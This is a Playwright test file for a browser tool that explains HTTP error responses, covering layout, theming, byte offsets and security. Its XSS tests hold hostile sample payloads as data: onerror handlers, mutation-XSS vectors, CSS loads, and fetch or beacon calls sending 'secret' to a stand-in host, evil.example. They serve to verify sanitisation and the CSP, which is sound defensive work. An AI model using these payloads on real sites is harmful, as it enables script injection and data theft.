// The page in real headless Chromium (Debian's), driven by playwright-core.
//
// Every request the browser makes goes through a counting proxy started here (Chromium is launched
// with --proxy-server and without the loopback bypass), so "no request left 127.0.0.1" is checked
// on the wire for the page, its worker, its service worker and the sandboxed preview alike.
// Screenshots (light and dark, wide and narrow) are kept in tests/page/artifacts/ (gitignored).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { readFileSync, readdirSync, mkdirSync, existsSync } from "node:fs";
import { createServer } from "node:net";
import http from "node:http";
import { inflateRawSync, deflateRawSync } from "node:zlib";
import { fileURLToPath } from "node:url";
import path from "node:path";
import { chromium } from "playwright-core";

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");
const www = path.join(root, "www");
const artifacts = path.join(root, "tests/page/artifacts");
const fixture = (id) => readFileSync(path.join(root, "tests/fixtures", `${id}.http`), "utf8");
const label = (id) => JSON.parse(readFileSync(path.join(root, "tests/fixtures", `${id}.json`), "utf8"));
const input = (name) => readFileSync(path.join(root, "tests/inputs", name), "utf8");

const WIDE = { width: 1280, height: 800 };
const NARROW = { width: 390, height: 844 };

let server, browser, base, proxy;
let serverLog = "";
const wire = { total: 0, local: 0, outside: [] }; // what the proxy saw
const seen = { outside: [] }; // what playwright saw (pages, workers)

function freePort() {
  return new Promise((resolve) => {
    const s = createServer();
    s.listen(0, "127.0.0.1", () => {
      const { port } = s.address();
      s.close(() => resolve(port));
    });
  });
}

async function waitForServer(url) {
  for (let i = 0; i < 100; i++) {
    try {
      if ((await fetch(url)).ok) return;
    } catch {}
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`server at ${url} did not start`);
}

function startServer(port) {
  const child = spawn("python3", ["-m", "http.server", String(port), "--bind", "127.0.0.1"], {
    cwd: www,
    stdio: ["ignore", "ignore", "pipe"],
  });
  child.stderr.on("data", (d) => (serverLog += d));
  return child;
}

/** A forward proxy that counts every request and lets only 127.0.0.1 through. */
function startProxy() {
  const p = http.createServer((req, res) => {
    wire.total++;
    let url;
    try {
      url = new URL(req.url);
    } catch {
      res.writeHead(400).end();
      return;
    }
    if (url.hostname !== "127.0.0.1") {
      wire.outside.push(req.url);
      res.writeHead(403).end("blocked by the page test");
      return;
    }
    wire.local++;
    const upstream = http.request(
      { host: "127.0.0.1", port: url.port, path: url.pathname + url.search, method: req.method, headers: req.headers },
      (r) => {
        res.writeHead(r.statusCode, r.headers);
        r.pipe(res);
      },
    );
    upstream.on("error", () => res.socket?.destroy()); // the server is gone: a network error, as offline
    req.pipe(upstream);
  });
  p.on("connect", (req, socket) => {
    wire.total++;
    wire.outside.push(`CONNECT ${req.url}`);
    socket.end("HTTP/1.1 403 Forbidden\r\n\r\n");
  });
  return new Promise((resolve) => p.listen(0, "127.0.0.1", () => resolve(p)));
}

before(async () => {
  const port = await freePort();
  base = `http://127.0.0.1:${port}/`;
  server = startServer(port);
  await waitForServer(base);
  proxy = await startProxy();
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    args: [
      "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
      "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run",
      // everything through the counting proxy, loopback included
      `--proxy-server=http://127.0.0.1:${proxy.address().port}`, "--proxy-bypass-list=<-loopback>",
      // silence Chromium's own services (autofill, optimisation hints, sign-in) so that the proxy
      // sees only what the page does
      "--disable-features=AutofillServerCommunication,OptimizationHints,OptimizationHintsFetching,OptimizationGuideModelDownloading,MediaRouter,DialMediaRouteProvider,Translate,NetworkTimeServiceQuerying",
      "--disable-domain-reliability", "--disable-client-side-phishing-detection", "--no-pings", "--disable-default-apps",
      "--gaia-url=http://127.0.0.1:9/", "--component-updater=url-source=http://127.0.0.1:9/",
    ],
  });
  mkdirSync(artifacts, { recursive: true });
});

after(async () => {
  await browser?.close();
  server?.kill();
  proxy?.close();
});

async function openPage({ viewport = WIDE, colorScheme = "light", url = base, clipboard = false, ready = true, bypassCSP = false } = {}) {
  const context = await browser.newContext({ viewport, colorScheme, bypassCSP });
  if (clipboard) await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: new URL(base).origin });
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e.message));
  context.on("request", (req) => {
    const u = req.url();
    if (!u.startsWith("data:") && !u.startsWith("blob:") && !u.startsWith("about:") && new URL(u).hostname !== "127.0.0.1") seen.outside.push(u);
  });
  await page.goto(url, { waitUntil: ready ? "load" : "commit" });
  // Not ready: the page's handlers are in place (the gallery is built just before the wasm
  // module starts loading), the module may not be.
  await page.waitForSelector(ready ? "body[data-ready=true]" : "button[data-example]");
  const close = () => context.close();
  return { page, errors, context, close };
}

const seq = (page) => page.evaluate(() => window.__resplain.seq);

/** Waits for the report of the read started after `since` and returns the Report shown. */
async function waitReport(page, since) {
  await page.waitForFunction((s) => window.__resplain.seq > s && document.body.dataset.state === "report" && window.__resplain.view, since);
  return page.evaluate(() => window.__resplain.view.r);
}

async function paste(page, text) {
  const since = await seq(page);
  await page.fill("#paste", text);
  return waitReport(page, since);
}

/** Drops `content` (a string, or bytes as a Buffer) as a file, as a person would. */
async function drop(page, content, name = "response.http") {
  const since = await seq(page);
  const bytes = [...(typeof content === "string" ? Buffer.from(content, "utf8") : content)];
  await page.evaluate(([data, fileName]) => {
    const dt = new DataTransfer();
    dt.items.add(new File([new Uint8Array(data)], fileName, { type: "text/plain" }));
    for (const type of ["dragenter", "dragover", "drop"]) {
      document.querySelector("#paste").dispatchEvent(new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true }));
    }
  }, [bytes, name]);
  return waitReport(page, since);
}

async function example(page, id) {
  const since = await seq(page);
  await page.click(`button[data-example="${id}"]`);
  return waitReport(page, since);
}

async function shot(page, name, fullPage = true) {
  await page.evaluate(() => document.querySelector("#toast").classList.remove("show")); // a transient message
  await page.waitForTimeout(200);
  await page.screenshot({ path: path.join(artifacts, `${name}.png`), fullPage });
}

const hopNames = (page) => page.$$eval("#hops li.hop", (lis) => lis.map((li) => li.dataset.hop));

/** What CommonMark reads as markup-capable in a line: code spans and backslash escapes left out. */
function liveText(line) {
  let out = "";
  for (let i = 0; i < line.length; ) {
    if (line[i] === "\\") {
      i += 2;
    } else if (line[i] === "`") {
      let n = 0;
      while (line[i + n] === "`") n++;
      const close = line.indexOf("`".repeat(n), i + n);
      if (close < 0) {
        out += line.slice(i, i + n);
        i += n;
      } else i = close + n;
    } else out += line[i++];
  }
  return out;
}

// ------------------------------------------------------------------------------------------------

test("an nginx 502 gets its verdict, hop picture, highlighted evidence and the engine's words", async () => {
  const { page, errors, close } = await openPage();
  const report = await paste(page, fixture("nginx-502-default"));
  assert.equal(report.status.code, 502);
  assert.equal(report.origin.generator, "nginx");
  assert.match(await page.textContent("#status-line"), /HTTP\/1\.1 502 Bad Gateway/);
  assert.equal(await page.textContent("#generator"), report.origin.verdict);
  assert.match(await page.textContent("#confidence"), /\d+% confidence/);
  assert.equal(await page.textContent("#summary"), report.explanation.summary);
  // the path: Client → nginx (generated it) → Your app (faded: it did not write this response)
  assert.deepEqual(await hopNames(page), ["client", "nginx", "app"]);
  assert.equal(await page.getAttribute("#hops li.hop[data-generated]", "data-hop"), "nginx");
  assert.equal(report.origin.sure, true);
  assert.equal(await page.textContent("#hops li.hop[data-generated] .hop-badge"), "generated it");
  assert.equal(await page.textContent("#hops li[data-hop=nginx] .hop-layer"), "proxy");
  assert.equal(await page.locator("#hops li.hop-behind").count(), 1);
  assert.match(await page.getAttribute("#hops", "aria-label"), /Client → nginx → Your app/);
  // evidence: one item per matched signal, its bytes highlighted
  const marks = await page.$$eval("#evidence .ev-item", (items) => items.map((item) => {
    const i = item.dataset.group;
    return [...document.querySelectorAll("#raw mark[data-ev]")].filter((m) => m.dataset.ev.split(" ").includes(i)).map((m) => m.textContent).join("");
  }));
  assert.ok(marks.includes("<hr><center>nginx</center>"), marks.join("|"));
  assert.ok(marks.includes("Server: nginx"), marks.join("|"));
  await page.hover("#evidence .ev-item >> nth=0");
  assert.ok((await page.locator("#raw mark.hot").count()) >= 1);
  // what to do, the headers' notes and the message: all the engine's
  assert.equal(await page.locator("#todo .checks li").count(), report.explanation.checks.length);
  const serverNote = report.explanation.header_notes.find((n) => n.name.toLowerCase() === "server");
  assert.ok(serverNote, "the engine notes the Server header");
  assert.ok((await page.textContent("#headers")).includes(serverNote.note));
  assert.equal(await page.textContent("[data-testid=body-message] .message-text"), report.explanation.message.text);
  await shot(page, "nginx-502-wide-light");
  assert.deepEqual(errors, []);
  await close();
});

test("a verdict short of sure is worded so on the path too", async () => {
  const { page, errors, close } = await openPage();
  const report = await paste(page, "HTTP/1.1 502 Bad Gateway\r\nServer: zorg\r\nContent-Type: text/plain\r\nContent-Length: 11\r\n\r\nBad Gateway");
  assert.equal(report.origin.sure, false);
  assert.match(report.origin.verdict, /^Probably zorg/);
  assert.equal(await page.getAttribute("#hops li.hop[data-generated]", "data-hop"), "zorg");
  assert.equal(await page.textContent("#hops li.hop[data-generated] .hop-badge"), "probably generated it");
  assert.ok(await page.locator("#hops li.hop[data-generated] .hop-badge-probable").count() === 1);
  assert.deepEqual(errors, []);
  await close();
});

test("an app's JSON error: its message, a JSON tree and when to retry", async () => {
  const { page, errors, close } = await openPage();
  const report = await drop(page, fixture("fastapi-503-retry-after"));
  assert.equal(report.origin.kind, "app");
  assert.equal(report.body.kind, "json");
  assert.equal(await page.textContent("#generator"), report.origin.verdict);
  assert.equal(await page.getAttribute("#hops li.hop[data-generated]", "data-hop"), "app");
  assert.equal(await page.textContent("[data-testid=body-message] .message-text"), report.explanation.message.text);
  // the body as a tree: keys and values as text, collapsible
  assert.match(await page.textContent("#body .json-tree"), /detail: "Service Unavailable"/);
  await page.click("#body .body-tools button");
  assert.match(await page.textContent("#body pre"), /"detail":\s*"Service Unavailable"/);
  // retry, and when, at a glance
  assert.match(await page.textContent("#glance [data-testid=retry]"), /wait 30 s/);
  assert.deepEqual(errors, []);
  await close();
});

test("the message the engine extracted is the one shown, for every HTML fixture that has one", async () => {
  const ids = readdirSync(path.join(root, "tests/fixtures")).filter((f) => f.endsWith(".http")).map((f) => f.slice(0, -5))
    .filter((id) => /<html|<!doctype/i.test(fixture(id)));
  const { page, errors, close } = await openPage();
  let checked = 0;
  for (const id of ids) {
    const report = await drop(page, readFileSync(path.join(root, "tests/fixtures", `${id}.http`)), `${id}.http`);
    if (report.body.kind !== "html") continue;
    const message = report.explanation.message;
    if (!message) {
      assert.equal(await page.locator("[data-testid=body-message]").count(), 0, id);
      continue;
    }
    assert.equal(await page.textContent("[data-testid=body-message] .message-text"), message.text, id);
    checked++;
  }
  assert.ok(checked >= 40, `${checked} HTML messages checked`);
  assert.deepEqual(errors, []);
  await close();
});

test("the example gallery: real fixtures, one click each, light and dark", async () => {
  const ids = readdirSync(path.join(www, "examples")).filter((f) => f.endsWith(".http")).map((f) => f.slice(0, -5));
  assert.ok(ids.length >= 5);
  for (const id of ids) {
    assert.equal(readFileSync(path.join(www, "examples", `${id}.http`), "utf8"), fixture(id), `www/examples/${id}.http differs from tests/fixtures`);
  }
  const sw = readFileSync(path.join(www, "sw.js"), "utf8");
  for (const id of ids) assert.ok(sw.includes(`examples/${id}.http`), `sw.js does not cache ${id}`);
  for (const f of readdirSync(path.join(www, "js"))) assert.ok(sw.includes(`js/${f}`), `sw.js does not cache js/${f}`);

  const { page, errors, close } = await openPage({ colorScheme: "dark" });
  assert.equal(await page.locator("#examples button").count(), ids.length);
  for (const id of ids) {
    const report = await example(page, id);
    const want = label(id);
    assert.equal(report.status.code, want.status, id);
    assert.equal(report.origin.kind, want.origin, id);
    if (want.origin === "proxy") assert.equal(report.origin.generator, want.generator, id);
    // the page shows the report it got, CRLFs and all
    assert.equal(report.input_length, Buffer.byteLength(fixture(id)), id);
    assert.ok(!report.diagnostics.some((d) => d.code === "body-shorter-than-declared"), id);
    if (id === "heroku-503-h12-behind-cloudflare") await shot(page, "heroku-503-wide-dark");
  }
  assert.deepEqual(errors, []);
  await close();
});

test("what to do at a glance: verdict, answer, retry and the first two checks without scrolling at 1280×800", async () => {
  const ids = readdirSync(path.join(www, "examples")).filter((f) => f.endsWith(".http")).map((f) => f.slice(0, -5));
  for (const colorScheme of ["light", "dark"]) {
    const { page, errors, close } = await openPage({ colorScheme });
    for (const id of ids) {
      const report = await example(page, id);
      await page.evaluate(() => window.scrollTo(0, 0)); // clicking the example scrolled to it
      const box = await page.evaluate(() => {
        const bottom = (sel) => document.querySelector(sel)?.getBoundingClientRect().bottom ?? Infinity;
        return {
          scrollY: window.scrollY,
          verdict: bottom("#generator"),
          summary: bottom("#summary"),
          retry: bottom("#glance [data-testid=retry] .retry-badge"),
          checks: [...document.querySelectorAll("#glance .checks li")].map((li) => li.getBoundingClientRect().bottom),
        };
      });
      assert.equal(box.scrollY, 0, id);
      for (const [what, at] of Object.entries({ verdict: box.verdict, summary: box.summary, retry: box.retry })) {
        assert.ok(at <= WIDE.height, `${id}: the ${what} ends at ${Math.round(at)} px`);
      }
      assert.equal(box.checks.length, Math.min(2, report.explanation.checks.length), id);
      for (const at of box.checks) assert.ok(at <= WIDE.height, `${id}: a first check ends at ${Math.round(at)} px`);
    }
    await shot(page, `glance-${colorScheme}`, false);
    assert.deepEqual(errors, []);
    await close();
  }
});

test("the hop picture: each layer with its label inside its box, wide and narrow", async () => {
  for (const viewport of [WIDE, NARROW]) {
    const { page, close } = await openPage({ viewport });
    await example(page, "heroku-503-h12-behind-cloudflare");
    assert.deepEqual(await hopNames(page), ["client", "cloudflare", "heroku", "app"]);
    assert.equal(await page.getAttribute("#hops li.hop[data-generated]", "data-hop"), "heroku");
    assert.equal(await page.textContent("#hops li[data-hop=cloudflare] .hop-layer"), "CDN / edge");
    for (const id of ["aws-alb-503-no-targets", "spring-boot-500-whitelabel"]) {
      await example(page, id);
      const overflow = await page.$$eval("#hops li.hop", (lis) => lis.flatMap((li) => {
        const box = li.getBoundingClientRect();
        return [...li.children].filter((c) => {
          const r = c.getBoundingClientRect();
          return r.left < box.left - 0.5 || r.right > box.right + 0.5 || c.scrollWidth > c.clientWidth + 1;
        }).map((c) => c.textContent);
      }));
      assert.deepEqual(overflow, [], `${id}: labels overflow their box`);
    }
    assert.match(await page.textContent("#hops li[data-hop=app]"), /Your app/);
    await example(page, "aws-alb-503-no-targets");
    assert.match(await page.textContent("#hops li[data-hop=aws-alb]"), /AWS Application Load Balancer/);
    await shot(page, `hops-${viewport.width}`, false);
    await close();
  }
});

test("phones: one column, the verdict brought up after a paste, light and dark", async () => {
  for (const colorScheme of ["light", "dark"]) {
    const { page, errors, close } = await openPage({ viewport: NARROW, colorScheme });
    await example(page, colorScheme === "light" ? "cloudflare-522-head-only" : "nginx-502-default");
    await page.waitForTimeout(700); // the smooth scroll
    const top = await page.evaluate(() => document.querySelector("#verdict").getBoundingClientRect().top);
    assert.ok(top >= -2 && top < NARROW.height / 3, `the verdict is at ${Math.round(top)} px`);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(overflow <= 0, `the page is ${overflow}px wider than the screen`);
    await shot(page, `narrow-${colorScheme}`);
    await shot(page, `narrow-${colorScheme}-viewport`, false);
    // a file dropped on a phone: the same
    await page.evaluate(() => window.scrollTo(0, 0));
    await drop(page, fixture("aws-alb-503-no-targets"));
    await page.waitForTimeout(700);
    const again = await page.evaluate(() => document.querySelector("#verdict").getBoundingClientRect().top);
    assert.ok(again >= -2 && again < NARROW.height / 3, `after a drop the verdict is at ${Math.round(again)} px`);
    assert.deepEqual(errors, []);
    await close();
  }
});

test("garbage says it is not an HTTP response, with no path and no retry", async () => {
  const { page, errors, close } = await openPage();
  const report = await paste(page, "asdf qwerty 12345 lorem ipsum, nothing like a response");
  assert.ok(report.diagnostics.some((d) => d.code === "not-http"));
  assert.equal(await page.textContent("#generator"), "This is not an HTTP response");
  assert.equal(report.origin.verdict, "This is not an HTTP response");
  assert.ok(await page.isHidden("#todo-card"));
  assert.equal(await page.textContent("#summary"), report.explanation.summary);
  assert.ok(await page.isHidden("#hops-card"));
  assert.equal(await page.locator("#glance [data-testid=retry]").count(), 0);
  assert.doesNotMatch(await page.textContent("#verdict"), /Retry: maybe|Your app/);
  await shot(page, "garbage", false);
  assert.deepEqual(errors, []);
  await close();
});

test("the theme follows the system, the toggle's choice persists, its name is what it shows", async () => {
  const { page, close } = await openPage({ colorScheme: "dark" });
  const bg = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const dark = await bg();
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme ?? null), null);
  await page.click("#theme");
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "light");
  assert.notEqual(await bg(), dark);
  await page.click("#theme");
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
  await page.reload();
  await page.waitForSelector("body[data-ready=true]");
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
  assert.equal((await page.textContent("#theme")).trim(), "Theme: dark");
  assert.equal(await page.getAttribute("#theme", "aria-label"), null);
  await page.click("#theme");
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme ?? null), null);
  await close();
});

test("byte offsets: highlights land on the right characters in a non-ASCII paste", async () => {
  const { page, close } = await openPage();
  const text = fixture("nginx-502-default")
    .replace("Server: nginx", "X-Note: héllo wörld — 日本語 😀\r\nServer: nginx")
    .replace("<body>", "<body>\r\n<p>Ünïcödé ✓ 🚀</p>");
  const report = await drop(page, text);
  const bytes = Buffer.from(text, "utf8");
  const marks = await page.$$eval("#raw mark[data-ev]", (ms) => ms.map((m) => ({ ev: m.dataset.ev.split(" ").map(Number), text: m.textContent })));
  const groups = await page.$$eval("#evidence .ev-item", (bs) => bs.map((b) => b.querySelector(".ev-bytes").textContent));
  assert.ok(groups.length >= 2);
  for (const [i, g] of groups.entries()) {
    const [, a, b] = /bytes (\d+)–(\d+)/.exec(g).map(Number);
    const want = bytes.subarray(a, b).toString("utf8");
    const got = marks.filter((m) => m.ev.includes(i)).map((m) => m.text).join("");
    assert.equal(got, want, `evidence ${i}`);
  }
  assert.ok(report.origin.evidence.some((e) => bytes.subarray(e.span.start, e.span.end).toString() === "<hr><center>nginx</center>"));
  await close();
});

test("a dropped file is read as bytes: a Latin-1 body keeps its byte count, binary its size", async () => {
  const { page, errors, close } = await openPage();
  const body = Buffer.from("Donn\xe9es invalides: caract\xe8re \xe0 la position 3", "latin1");
  const head = Buffer.from(`HTTP/1.1 400 Bad Request\r\nServer: nginx\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Length: ${body.length}\r\n\r\n`, "latin1");
  const file = Buffer.concat([head, body]);
  const report = await drop(page, file, "latin1.http");
  assert.equal(report.input_length, file.length);
  assert.equal(report.body.length, body.length);
  assert.ok(!report.diagnostics.some((d) => d.code === "body-longer-than-declared" || d.code === "body-shorter-than-declared"), JSON.stringify(report.diagnostics.map((d) => d.code)));
  assert.match(await page.textContent("#paste-meta"), new RegExp(`^${file.length} B`));
  // the evidence still lands on its bytes
  assert.equal((await page.$$eval("#raw mark[data-ev]", (ms) => ms.map((m) => m.textContent))).join(""), "Server: nginx");
  // 2 MB of binary is 2.0 MB
  const bin = Buffer.alloc(2 * 1024 * 1024);
  for (let i = 0; i < bin.length; i++) bin[i] = (i * 131 + 7) & 0xff;
  const binReport = await drop(page, bin, "blob.bin");
  assert.equal(binReport.input_length, bin.length);
  assert.match(await page.textContent("#paste-meta"), /^2\.0 MB/);
  assert.deepEqual(errors, []);
  await close();
});

test("a real paste keeps its CRLFs, and so does typing afterwards", async () => {
  const { page, close } = await openPage({ clipboard: true });
  const text = fixture("nginx-502-default");
  await page.evaluate((t) => navigator.clipboard.writeText(t), text);
  await page.focus("#paste");
  let since = await seq(page);
  await page.keyboard.press("Control+V");
  let report = await waitReport(page, since);
  assert.equal(report.input_length, Buffer.byteLength(text));
  assert.ok(!report.diagnostics.some((d) => d.code === "body-shorter-than-declared"), JSON.stringify(report.diagnostics));
  // type a header at the end of the status line: the rest of the paste keeps its CRLFs
  await page.evaluate(() => {
    const area = document.querySelector("#paste");
    const end = area.value.indexOf("\n");
    area.setSelectionRange(end, end);
  });
  await page.keyboard.press("Enter");
  await page.keyboard.type("X-Typed: yes");
  await page.waitForFunction(() => window.__resplain.view?.r.headers.some((h) => h.name === "X-Typed" && h.value === "yes"));
  report = await page.evaluate(() => window.__resplain.view.r);
  assert.equal(report.input_length, Buffer.byteLength(text) + "X-Typed: yes\r\n".length);
  assert.ok(!report.diagnostics.some((d) => d.code === "body-shorter-than-declared" || d.code === "bare-lf"), JSON.stringify(report.diagnostics));
  await close();
});

const XSS_HTML = [
  "HTTP/1.1 500 Internal Server Error",
  "Content-Type: text/html",
  "X-Evil: <img src=x onerror=\"window.__xss=11\">",
  "",
  "<!doctype html><html><head><title><img src=x onerror=\"window.__xss=12\"></title>",
  "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">",
  "<link rel=\"stylesheet\" href=\"https://evil.example/style.css\">",
  "<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/bg.png)}</style>",
  "<base href=\"https://evil.example/\">",
  "</head><body onload=\"window.__xss=13\">",
  "<h1>Oops <img src=x onerror=\"window.__xss=1;document.body.dataset.ran=1\"></h1>",
  "<script>window.__xss=2;document.body.dataset.ran=1;fetch('https://evil.example/steal')</script>",
  "<svg onload=\"window.__xss=3\"></svg><iframe src=\"https://evil.example/frame\"></iframe>",
  "<img src=\"https://evil.example/pixel.png\"><img src=\"/local-pixel.png\">",
  "<a id=\"link\" href=\"https://evil.example/click\">click</a>",
  "<form action=\"https://evil.example/post\"><button id=\"submit\">go</button></form>",
  // mutation XSS: markup that parses one way, serialises, and parses another way
  "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss=31\"></style></table></mtext></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__xss=32&gt;\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror=window.__xss=33>\">",
  "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=34>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=35>",
  // CSS that loads: image-set(), an escaped url(), a url in a style attribute
  "<div id=\"css1\" style=\"background-image: image-set('https://evil.example/set.png' 1x)\">a</div>",
  "<div id=\"css2\" style=\"background: u\\72 l(https://evil.example/escaped.png)\">b</div>",
  "<style>#css3{background:-webkit-image-set(url(https://evil.example/w.png) 1x)} #css4{background:\\75 rl(https://evil.example/e2.png)}</style>",
  "<div id=\"css3\">c</div><div id=\"css4\">d</div>",
  "</body></html>",
].join("\r\n");

const XSS_JSON = 'HTTP/1.1 502 Bad Gateway\r\nContent-Type: application/json\r\n\r\n{"message":"<img src=x onerror=\\"window.__xss=21\\">","detail":"<script>window.__xss=22</script>"}';

/** The tags a preview may hold (js/preview.js). */
const ALLOWED = new Set(["html", "head", "body", "title", "style", "div", "span", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
  "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "colgroup", "col",
  "pre", "code", "kbd", "samp", "var", "b", "i", "u", "s", "strong", "em", "small", "big", "sub", "sup", "mark",
  "blockquote", "q", "cite", "abbr", "address", "center", "font", "a", "img", "figure", "figcaption", "section",
  "article", "header", "footer", "nav", "main", "aside", "details", "summary", "label", "tt", "time", "wbr", "del", "ins", "meta"]);

test("pasted markup never runs: not in the report, not in the preview (mutation XSS included), no request made", async () => {
  const { page, errors, close } = await openPage();
  await page.evaluate(() => { window.__xss = 0; });
  const before = { wire: wire.outside.length, log: serverLog.length };

  const json = await paste(page, XSS_JSON);
  assert.equal(await page.textContent("[data-testid=body-message] .message-text"), json.explanation.message.text);
  assert.match(json.explanation.message.text, /<img src=x onerror=|<script>window/);
  await drop(page, XSS_HTML);
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__xss), 0);
  // only the page's own elements: nothing from the paste became an element
  assert.equal(await page.locator("body img, body script:not([src]), body svg[onload], body iframe, body link[href^=http], body math").count(), 0);
  assert.match(await page.textContent("#raw"), /<script>window.__xss=2/);

  // the preview: sandbox="" (no scripts, no forms, no navigation of the page), a CSP first in srcdoc
  await page.click("#body .body-tools button");
  const frame = page.locator("iframe.preview");
  await frame.waitFor();
  assert.equal(await frame.getAttribute("sandbox"), "");
  const srcdoc = await frame.getAttribute("srcdoc");
  assert.match(srcdoc, /^<!-- resplain preview[^>]*--><meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">/);
  await page.waitForFunction(() => document.querySelector("iframe.preview").contentDocument === null); // opaque origin
  let inner;
  for (let i = 0; i < 50 && !inner; i++) {
    inner = page.frames().find((f) => f.url() === "about:srcdoc");
    if (!inner) await page.waitForTimeout(50);
  }
  assert.ok(inner, "the preview frame loaded");
  await inner.waitForSelector("#link");
  assert.match(await inner.textContent("h1"), /Oops/);
  // no live element: only allow-listed tags, no handler, no URL but data:, no style that loads
  const live = await inner.evaluate(() => {
    const els = [...document.querySelectorAll("*")];
    return {
      tags: [...new Set(els.map((e) => e.localName))],
      foreign: els.filter((e) => e.namespaceURI !== "http://www.w3.org/1999/xhtml").length,
      handlers: els.flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith("on")).map((a) => `${e.localName}[${a.name}]`)),
      urls: els.flatMap((e) => [...e.attributes].filter((a) => ["src", "href", "action", "srcset", "background", "poster"].includes(a.name) && !a.value.startsWith("data:")).map((a) => `${e.localName}[${a.name}=${a.value}]`)),
      styles: [...document.querySelectorAll("style"), ...document.querySelectorAll("[style]")]
        .map((e) => (e.localName === "style" ? e.textContent : e.getAttribute("style")))
        .filter((css) => /url\s*\(|image-set|@import|\\/i.test(css)),
      backgrounds: ["css1", "css2", "css3", "css4"].map((id) => document.getElementById(id) && getComputedStyle(document.getElementById(id)).backgroundImage),
    };
  });
  for (const tag of live.tags) assert.ok(ALLOWED.has(tag), `<${tag}> in the preview`);
  assert.equal(live.foreign, 0, "foreign (svg, math) elements in the preview");
  assert.deepEqual(live.handlers, []);
  assert.deepEqual(live.urls, []);
  assert.deepEqual(live.styles, []);
  for (const bg of live.backgrounds) assert.ok(bg === null || bg === "none", `a background loads: ${bg}`);
  await page.waitForTimeout(500);
  assert.equal(await inner.evaluate(() => document.body.dataset.ran ?? null).catch(() => null), null);
  // clicking inside the preview navigates nowhere
  await inner.click("#link", { timeout: 2000 }).catch(() => {});
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__xss), 0);
  await shot(page, "xss-preview");

  // nothing left the page and nothing was even asked of the local server
  assert.deepEqual(wire.outside.slice(before.wire), []);
  const newLog = serverLog.slice(before.log);
  assert.doesNotMatch(newLog, /GET \/(x|1|local-pixel\.png|refresh|click|post)\b/, newLog);
  assert.deepEqual(errors, []);
  await close();
});

test("the Content-Security-Policy forbids uploads and third-party resources, and enforces Trusted Types", async () => {
  const { page, close } = await openPage();
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
  const directives = Object.fromEntries(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(directives["default-src"], ["'none'"]);
  assert.deepEqual(directives["script-src"], ["'self'", "'wasm-unsafe-eval'"]);
  assert.ok(["'none'", "'self'"].includes(directives["connect-src"].join(" ")), csp);
  assert.deepEqual(directives["form-action"], ["'none'"]);
  assert.deepEqual(directives["base-uri"], ["'none'"]);
  assert.deepEqual(directives["require-trusted-types-for"], ["'script'"]);
  assert.deepEqual(directives["trusted-types"], ["resplain", "resplain-preview"]);
  assert.doesNotMatch(csp, /https?:|\*|wss?:/, "no other origin is allowed anywhere");

  // Trusted Types hold: HTML from a string cannot reach the page, and no other policy can be made
  const tt = await page.evaluate(() => {
    const out = {};
    try {
      document.body.insertAdjacentHTML("beforeend", "<b id=tt>x</b>");
      out.html = "inserted";
    } catch (e) {
      out.html = e.name;
    }
    try {
      trustedTypes.createPolicy("sneaky", { createHTML: (s) => s });
      out.policy = "created";
    } catch (e) {
      out.policy = e.name;
    }
    return out;
  });
  assert.deepEqual(tt, { html: "TypeError", policy: "TypeError" });

  // the page's own markup refers to nothing elsewhere
  const refs = await page.$$eval("[src], [href]", (els) => els.map((e) => e.getAttribute("src") ?? e.getAttribute("href")));
  for (const ref of refs) assert.ok(!/^(https?:)?\/\//.test(ref), ref);
  const resources = await page.evaluate(() => performance.getEntriesByType("resource").map((r) => r.name));
  for (const r of resources) assert.equal(new URL(r).hostname, "127.0.0.1", r);

  // and an attempt to send something elsewhere is refused by the browser before any request
  const before = wire.outside.length;
  const attempted = seen.outside.length;
  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    const attempts = [
      fetch("https://evil.example/upload", { method: "POST", body: "secret" }).then(() => "sent", () => "blocked"),
      fetch("http://127.0.0.2:9/upload").then(() => "sent", () => "blocked"),
      new Promise((r) => { const i = new Image(); i.onload = () => r("sent"); i.onerror = () => r("blocked"); i.src = "https://evil.example/p.png"; }),
      new Promise((r) => { try { const ws = new WebSocket("wss://evil.example/"); ws.onerror = () => r("blocked"); ws.onopen = () => r("sent"); } catch { r("blocked"); } }),
    ];
    navigator.sendBeacon?.("https://evil.example/beacon", "secret");
    const outcome = await Promise.all(attempts);
    await new Promise((r) => setTimeout(r, 200));
    return { outcome, violations };
  });
